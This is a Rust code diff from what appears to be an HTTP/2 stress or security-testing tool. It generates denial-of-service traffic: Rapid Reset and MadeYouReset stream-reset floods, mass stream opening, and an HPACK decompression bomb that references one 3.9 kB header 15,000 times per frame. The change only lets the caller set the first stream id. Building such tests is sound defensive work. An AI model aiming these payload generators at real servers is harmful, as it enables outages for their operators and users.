@@ -115,19 +115,19 @@ impl Vector {
                 Sent::Frame(frame) => octets.extend(frame.octets(authority)),
                 Sent::Preface { raw_preface } => octets[0] = raw_preface.clone().into_bytes(),
                 Sent::RapidReset { rapid_reset } => {
-                    octets.extend(streams(*rapid_reset, authority, |stream| {
+                    octets.extend(streams(1, *rapid_reset, authority, |stream| {
                         frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])
                     }));
                 }
                 Sent::MadeYouReset { made_you_reset } => {
-                    octets.extend(streams(*made_you_reset, authority, |stream| {
+                    octets.extend(streams(1, *made_you_reset, authority, |stream| {
                         frame(WINDOW_UPDATE, 0, stream, &[0; 4])
                     }));
                 }
                 Sent::OpenStreams { open_streams } => {
-                    octets.extend(streams(*open_streams, authority, |_| Vec::new()));
+                    octets.extend(streams(1, *open_streams, authority, |_| Vec::new()));
                 }
-                Sent::HpackBomb { hpack_bomb } => octets.extend(bomb(*hpack_bomb, authority)),
+                Sent::HpackBomb { hpack_bomb } => octets.extend(bomb(1, *hpack_bomb, authority)),
             }
         }
         octets
@@ -167,15 +167,16 @@ impl Frame {
     }
 }
 
-/// So many streams, each with a request's head and one more frame.
+/// So many streams from this one on, each with a request's head and one more frame.
 pub(crate) fn streams(
+    first: u32,
     count: u32,
     authority: &str,
     then: impl Fn(u32) -> Vec<u8>,
 ) -> impl Iterator<Item = Vec<u8>> {
     let head = block(&request("POST", authority, "/flood", &[]));
     (0..count).map(move |stream| {
-        let stream = 2 * stream + 1;
+        let stream = first + 2 * stream;
         let mut octets = frame(HEADERS, END_HEADERS, stream, &head);
         octets.extend(then(stream));
         octets
@@ -183,19 +184,20 @@ pub(crate) fn streams(
 }
 
 /// One field of 3.9 kB in the table, then streams that refer to it over and over.
-pub(crate) fn bomb(count: u32, authority: &str) -> Vec<Vec<u8>> {
+pub(crate) fn bomb(stream: u32, count: u32, authority: &str) -> Vec<Vec<u8>> {
     let head = block(&request("GET", authority, "/bomb", &[]));
     let mut first = head.clone();
     first.push(0x40);
     string(&mut first, b"x-bomb");
     string(&mut first, &[b'a'; 3900]);
-    let mut octets = vec![frame(HEADERS, END_HEADERS | END_STREAM, 1, &first)];
+    let mut octets = vec![frame(HEADERS, END_HEADERS | END_STREAM, stream, &first)];
     let mut references = head;
     for _ in 0..15_000 {
         number(&mut references, 62, 7, 0x80);
     }
     let flags = END_HEADERS | END_STREAM;
-    octets.extend((1..=count).map(|stream| frame(HEADERS, flags, 2 * stream + 1, &references)));
+    let streams = (1..=count).map(|number| stream + 2 * number);
+    octets.extend(streams.map(|stream| frame(HEADERS, flags, stream, &references)));
     octets
 }
 
